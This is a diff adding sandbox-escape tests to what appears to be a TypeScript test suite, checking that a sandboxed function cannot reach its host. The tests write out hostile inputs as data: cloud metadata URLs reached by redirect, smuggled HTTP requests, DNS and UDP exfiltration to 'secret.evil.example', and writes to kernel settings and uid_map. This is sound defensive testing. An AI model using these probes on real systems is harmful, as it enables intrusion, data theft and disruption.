@@ -4,6 +4,7 @@
  * sandbox. The layers one by one: src/sandbox-namespaces/layers.test.ts.
  */
 import assert from 'node:assert/strict';
+import { createSocket } from 'node:dgram';
 import { once } from 'node:events';
 import { readFileSync } from 'node:fs';
 import { readFile, stat, writeFile } from 'node:fs/promises';
@@ -12,6 +13,7 @@ import { type AddressInfo, createServer as createTcpServer } from 'node:net';
 import { hostname, networkInterfaces } from 'node:os';
 import { join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
+import { NEWEST_CALL, REFUSED } from '../src/sandbox-namespaces/system-calls.ts';
 import { ATTACKER, SYSTEM_CALLS } from './hostile-sandbox.ts';
 import { type AppFiles, startTestPlatform, type TestPlatform } from './platform-harness.ts';
 import { poll, processesWith } from './process-table.ts';
@@ -59,7 +61,11 @@ const portOf = (server: Server): number => (server.address() as AddressInfo).por
 
 before(async () => {
   if (skip !== false) return;
-  granted = createServer((_request, response) => response.end('granted')).listen(0, '127.0.0.1');
+  granted = createServer((request, response) => {
+    const to = new URL(request.url!, 'http://granted').searchParams.get('to');
+    if (to !== null) response.writeHead(302, { location: to });
+    response.end('granted');
+  }).listen(0, '127.0.0.1');
   forbidden = createServer((_request, response) => response.end('forbidden')).listen(0, '0.0.0.0');
   await Promise.all([once(granted, 'listening'), once(forbidden, 'listening')]);
   const files = {
@@ -200,12 +206,60 @@ describe('a function that looks for files', { skip, timeout: 60_000 }, () => {
   });
 });
 
+describe('a function that looks for the machine behind its files', { skip, timeout: 60_000 }, () => {
+  it('reads no memory, no log and no device of it', async () => {
+    const usual = /^(console|core|fd|full|null|ptmx|pts|random|shm|stderr|stdin|stdout|tty|urandom|zero)$/;
+    for (const name of (await attack('list', { path: '/dev' })).got as string[]) assert.match(name, usual);
+    for (const path of ['/proc/kcore', '/proc/kmsg', '/proc/1/mem', '/proc/sysrq-trigger'])
+      await assertDenied(/^(ENOENT|EACCES|EPERM|EIO)$/, 'read', { path });
+    await assertDenied(/^ENOENT$/, 'list', { path: '/sys/fs/cgroup' });
+    assert.ok(Array.isArray((await attack('list', { path: '/sys/fs/cgroup' }, { platform: plain })).got));
+  });
+
+  it('changes no setting of it, nor of its own that would set it free', async () => {
+    for (const [path, text] of [
+      ['/proc/sysrq-trigger', 'h'],
+      ['/proc/sys/kernel/hostname', 'taken'],
+      ['/proc/sys/vm/drop_caches', '1'],
+      ['/proc/sys/net/ipv4/ip_forward', '1'],
+      ['/proc/self/oom_score_adj', '-1000'],
+      ['/proc/self/uid_map', '0 0 1'],
+      ['/proc/self/setgroups', 'allow'],
+    ] as const)
+      await assertDenied(/^(ENOENT|EACCES|EPERM|EROFS)$/, 'write', { path, text });
+  });
+
+  it('makes no device, and gives no file away', async () => {
+    await assertDenied(/^(EPERM|EACCES)$/, 'device');
+    // The user 0 does not even exist inside.
+    await assertDenied(/^(EINVAL|EPERM)$/, 'give');
+    // Root, without a sandbox, may.
+    if (process.getuid?.() === 0) assert.equal((await attack('give', {}, { platform: plain })).got, 'given');
+  });
+});
+
 describe('a function that calls the kernel by itself', {
   skip: skip || (process.arch !== 'x64' && 'numbers of x64'),
   timeout: 60_000,
 }, () => {
   for (const [what, args] of Object.entries(SYSTEM_CALLS))
     it(`cannot ${what}`, () => assertDenied(/^(EPERM|EACCES|ENOSYS|EAFNOSUPPORT)$/, 'call', { args }));
+
+  it('cannot use anything that the filter names, or that is newer than the filter', async () => {
+    const numbers = Object.values(REFUSED).map(([x64]) => x64);
+    const newer = Array.from({ length: 64 }, (_, more) => NEWEST_CALL + 1 + more);
+    const { got } = await attack('calls', { calls: [...numbers, ...newer].map((number) => [number]) });
+    assert.deepEqual(got, [...numbers.map(() => 'EPERM'), ...newer.map(() => 'ENOSYS')]);
+    await assertUnharmed();
+  });
+
+  it('cannot raise its limits or its standing', async () => {
+    const [core, files] = [4, 7];
+    await assertDenied(/^EPERM$/, 'raise', { limit: core, to: 2 ** 30 });
+    await assertDenied(/^EPERM$/, 'raise', { limit: files, to: 1 << 19 });
+    await assertDenied(/^(EACCES|EPERM)$/, 'hurry');
+    await assertDenied(/^EPERM$/, 'realtime');
+  });
 
   it('cannot become root', () => assertDenied(/^(EINVAL|EPERM)$/, 'become', { uid: 0 }));
 
@@ -248,6 +302,63 @@ describe('a function that connects', { skip, timeout: 60_000 }, () => {
     await lambent.waitForLog(({ text }) => text.includes('a connection to 169.254.169.254:80 was refused'));
     const open = await attack('fetch', { url: urls[0] }, { platform: plain });
     assert.equal(open.got, 200);
+  });
+
+  it('does not get there by a redirect', async () => {
+    const to = (url: string): object => ({
+      url: `http://127.0.0.1:${portOf(granted)}/?${new URLSearchParams({ to: url })}`,
+    });
+    for (const url of [
+      'http://169.254.169.254/latest/meta-data/',
+      `http://localhost:${portOf(forbidden)}/`,
+      `http://[::ffff:127.0.0.1]:${portOf(forbidden)}/`,
+      `${lambent.url}/_lambent/api/v1/health`,
+    ])
+      await assertDenied(/^(ECONNREFUSED|E_NETWORK_DENIED)$/, 'fetch', to(url), 'listed');
+    const forbiddenUrl = `http://127.0.0.1:${portOf(forbidden)}/`;
+    assert.equal((await attack('fetch', to(forbiddenUrl), { platform: plain, as: 'listed' })).got, 200);
+  });
+
+  it('does not get there by a second request in the first', async () => {
+    const own = `127.0.0.1:${portOf(granted)}`;
+    const hidden = `http://127.0.0.1:${portOf(forbidden)}/`;
+    for (const bytes of [
+      `GET http://${own}/ HTTP/1.1\r\nHost: ${own}\r\n\r\nGET ${hidden} HTTP/1.1\r\nHost: ${own}\r\n\r\n`,
+      `CONNECT ${own} HTTP/1.1\r\n\r\nCONNECT 127.0.0.1:${portOf(forbidden)} HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\nHost: x\r\n\r\n`,
+    ]) {
+      const { got } = await attack('raw', { bytes }, { as: 'listed' });
+      assert.doesNotMatch(String(got), /forbidden/);
+    }
+    const bytes = `GET http://${own}/ HTTP/1.1\r\nHost: ${own}\r\n\r\n`;
+    assert.match(String((await attack('raw', { bytes }, { as: 'listed' })).got), /granted/);
+  });
+
+  it('carries nothing out by asking for names, or by datagrams', async () => {
+    const heard: string[] = [];
+    const ear = createSocket('udp4').on('message', (message) => heard.push(message.toString('latin1')));
+    ear.bind(0, '127.0.0.1');
+    await once(ear, 'listening');
+    const { port } = ear.address();
+    await assertDenied(/^(ENETUNREACH|EPERM|EACCES)$/, 'udp', { host: '8.8.8.8', port: 53 });
+    await assertDenied(/^(ENOTFOUND|EAI_AGAIN)$/, 'lookup', { host: 'secret.evil.example' });
+    await assertDenied(/^(ECONNREFUSED|ETIMEOUT)$/, 'ask', {
+      host: 'secret.evil.example',
+      server: `127.0.0.1:${port}`,
+    });
+    // It may leave for the loopback of its own, where nobody is.
+    await attack('udp', { host: '127.0.0.1', port });
+    assert.equal((await attack('udp', { host: '127.0.0.1', port }, { platform: plain })).got, 'sent');
+    await poll(() => heard.length > 0);
+    assert.deepEqual(heard, ['secret'], 'what the sandboxed one sent would have come first');
+    ear.close();
+  });
+
+  it('keeps nobody else from connecting by connections that never end', async () => {
+    assert.equal((await attack('hold', { count: 300 })).got, 'held');
+    const there = { url: `http://127.0.0.1:${portOf(granted)}/` };
+    assert.equal((await attack('fetch', there, { as: 'listed' })).got, 200);
+    assert.equal((await attack('exit')).error?.code, 'E_FUNCTION_EXITED');
+    await assertUnharmed();
   });
 
   it('does not reach sockets without a file', async () => {
@@ -329,6 +440,14 @@ describe('a function that crashes', { skip, timeout: 30_000 }, () => {
     const limits = await attack('read', { path: '/proc/self/limits' });
     assert.match(String(limits.got), /^Max core file size +0 +0 /m);
     assert.equal((await attack('abort')).error?.code, 'E_FUNCTION_EXITED');
+    await assertUnharmed();
+  });
+});
+
+describe('a function that ends everything it can reach', { skip, timeout: 30_000 }, () => {
+  it('reaches itself alone', async () => {
+    const { got, denied, error } = await attack('killAll');
+    assert.ok(got === true || denied === 'ESRCH' || error?.code === 'E_FUNCTION_EXITED');
     await assertUnharmed();
   });
 });
